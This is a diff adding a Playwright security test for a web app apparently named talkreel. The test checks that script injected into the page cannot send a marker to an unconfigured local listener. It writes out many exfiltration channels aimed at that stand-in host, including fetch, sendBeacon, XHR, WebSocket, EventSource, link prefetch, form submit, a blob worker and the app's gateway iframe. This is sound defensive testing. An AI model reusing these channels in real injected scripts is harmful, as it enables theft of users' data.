@@ -1,0 +1,159 @@
+/**
+ * Script injected into the app's own origin (page.evaluate runs with the page's rights but
+ * cannot make a real click) tries to send a marker to a listener on another port by every way
+ * out: plain requests of every kind, a worker of its own, the network gateway frame, and every
+ * built-in fetch path driven through the UI (product link, CORS proxy, script writer). The
+ * listener — a separate server, not the app's own accounting — must receive nothing. Then the
+ * user sets that host up as their script writer with real clicks, and only then does it hear
+ * from talkreel.
+ */
+import { expect, test } from '@playwright/test';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { addExampleImages } from './flow.ts';
+
+const MARKER = 'MARKER-c0ffee-4b1d';
+let listener: Server;
+let target = '';
+const heard: string[] = [];
+
+test.beforeAll(async () => {
+  listener = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c: Buffer) => (body += c.toString()));
+    req.on('end', () => {
+      heard.push(`${req.method} ${req.url} ${body.slice(0, 2000)}`);
+      res.setHeader('Access-Control-Allow-Origin', '*');
+      res.setHeader('Access-Control-Allow-Headers', '*');
+      res.setHeader('Access-Control-Allow-Methods', 'GET, POST, OPTIONS');
+      if (req.method === 'OPTIONS') return void res.writeHead(204).end();
+      // Like a local model server, so the allowed case looks like the real thing.
+      res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ choices: [{ message: { role: 'assistant', content: '{"options":[]}' } }] }));
+    });
+  });
+  await new Promise<void>((ok) => listener.listen(0, '127.0.0.1', ok));
+  target = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+});
+test.afterAll(() => new Promise<void>((ok) => listener.close(() => ok())));
+
+test('injected script cannot reach a host the user did not configure; the user configuring it is what opens it', async ({ page }) => {
+  await page.goto('/');
+  // The user's own, ordinary work first: a product with pictures.
+  await page.getByTestId('product-name').fill(`${MARKER} bottle`);
+  await addExampleImages(page);
+  await page.getByRole('radio', { name: '15 s', exact: true }).click();
+  // A real click gives the page a few seconds of "user activation": the attack comes after.
+  await expect.poll(() => page.evaluate(() => navigator.userActivation.isActive), { timeout: 15_000 }).toBe(false);
+
+  const direct = await page.evaluate(
+    async ({ target, marker }) => {
+      const out: Record<string, string> = {};
+      const tryIt = async (name: string, fn: () => Promise<unknown> | unknown) => {
+        try {
+          await fn();
+          out[name] = 'no error';
+        } catch (e) {
+          out[name] = `refused: ${(e as Error).message}`;
+        }
+      };
+      await tryIt('fetch', () => fetch(`${target}/fetch?${marker}`, { method: 'POST', body: marker, mode: 'no-cors' }));
+      await tryIt('beacon', () => {
+        if (!navigator.sendBeacon(`${target}/beacon?${marker}`, marker)) throw new Error('sendBeacon returned false');
+      });
+      await tryIt('xhr', () => new Promise((ok, no) => {
+        const x = new XMLHttpRequest();
+        x.open('GET', `${target}/xhr?${marker}`);
+        x.onload = ok;
+        x.onerror = () => no(new Error('xhr error'));
+        x.send();
+      }));
+      new Image().src = `${target}/img?${marker}`;
+      await tryIt('websocket', () => new WebSocket(`${target.replace('http', 'ws')}/ws?${marker}`));
+      await tryIt('eventsource', () => new EventSource(`${target}/es?${marker}`));
+      for (const rel of ['prefetch', 'preload', 'stylesheet']) {
+        const l = document.createElement('link');
+        l.rel = rel;
+        l.setAttribute('as', 'fetch');
+        l.href = `${target}/${rel}?${marker}`;
+        document.head.append(l);
+      }
+      const s = document.createElement('script');
+      s.src = `${target}/script?${marker}`;
+      document.head.append(s);
+      const form = document.createElement('form');
+      form.action = `${target}/form?${marker}`;
+      form.method = 'POST';
+      document.body.append(form);
+      await tryIt('form', () => form.submit());
+      // A worker of its own (blob: workers inherit the page's policy).
+      new Worker(URL.createObjectURL(new Blob([`fetch('${target}/worker?${marker}', { method: 'POST', body: '${marker}' }).catch(() => {});`], { type: 'text/javascript' })));
+      // The gateway itself, opened for the listener's origin and asked directly.
+      const f = document.createElement('iframe');
+      f.src = `/net.html#origin=${encodeURIComponent(target)}`;
+      const ready = new Promise<void>((ok) => addEventListener('message', (e) => e.source === f.contentWindow && e.data?.type === 'gateway-ready' && ok()));
+      document.body.append(f);
+      await ready;
+      const reply = await new Promise<{ type: string; message?: string }>((ok) => {
+        const c = new MessageChannel();
+        c.port1.onmessage = (e) => ok(e.data);
+        f.contentWindow!.postMessage({ type: 'fetch', url: `${target}/gateway?${marker}`, method: 'POST', headers: [], body: marker, redirect: 'follow', referrerPolicy: 'no-referrer' }, location.origin, [c.port2]);
+      });
+      out.gateway = `${reply.type}: ${reply.message ?? ''}`;
+      return out;
+    },
+    { target, marker: MARKER },
+  );
+  console.log('direct attempts:', JSON.stringify(direct));
+  expect(direct.fetch).toMatch(/^refused/);
+  expect(direct.gateway).toMatch(/^error: talkreel may not contact/);
+
+  // The built-in paths, driven through the UI by script (clicks it can make are not the user's).
+  await page.evaluate(
+    async ({ target, marker }) => {
+      const $ = <T extends HTMLElement>(id: string) => document.querySelector<T>(`[data-testid="${id}"]`)!;
+      const set = (el: HTMLInputElement, v: string, ev = 'input') => {
+        el.value = v;
+        el.dispatchEvent(new Event(ev, { bubbles: true }));
+      };
+      const tick = () => new Promise((r) => setTimeout(r, 300));
+      // Product link.
+      $<HTMLButtonElement>('import-tab-link')?.click();
+      await tick();
+      set($<HTMLInputElement>('import-link'), `${target}/product?${marker}`);
+      await tick();
+      $<HTMLButtonElement>('import-parse').click();
+      await tick();
+      // The same link through a "proxy" on the listener.
+      $<HTMLButtonElement>('link-settings').click();
+      await tick();
+      set($<HTMLInputElement>('proxy-input'), `${target}/proxy?u=`);
+      $<HTMLButtonElement>('proxy-save').click();
+      await tick();
+      $<HTMLButtonElement>('import-parse').click();
+      await tick();
+      // The script writer pointed at the listener, switched on, and asked to write.
+      ($('writer-settings') as unknown as HTMLDetailsElement).open = true;
+      await tick();
+      set($<HTMLInputElement>('writer-url'), `${target}/v1`, 'change');
+      await tick();
+      $<HTMLInputElement>('writer-enabled').click();
+      await tick();
+      $<HTMLButtonElement>('generate-scripts').click();
+    },
+    { target, marker: MARKER },
+  );
+  await expect(page.getByTestId('script-option').first()).toBeVisible({ timeout: 60_000 });
+  await expect(page.getByTestId('import-error-message')).toContainText('only when you ask');
+  await page.waitForTimeout(2000);
+  expect(heard).toEqual([]);
+
+  // Now the user sets the same server up as their script writer, with real clicks.
+  await page.getByTestId('writer-enabled').uncheck();
+  await page.getByTestId('writer-url').fill(`${target}/v1`);
+  await page.getByTestId('writer-url').press('Tab');
+  await page.getByTestId('writer-enabled').check();
+  await page.getByTestId('generate-scripts').click();
+  await expect.poll(() => heard.some((h) => h.startsWith('POST /v1/chat/completions') && h.includes(MARKER)), { timeout: 60_000 }).toBe(true);
+  // Only the script writer's endpoint, nothing the injected script asked for.
+  expect(heard.filter((h) => !/^(POST|OPTIONS) \/v1\/chat\/completions/.test(h))).toEqual([]);
+});
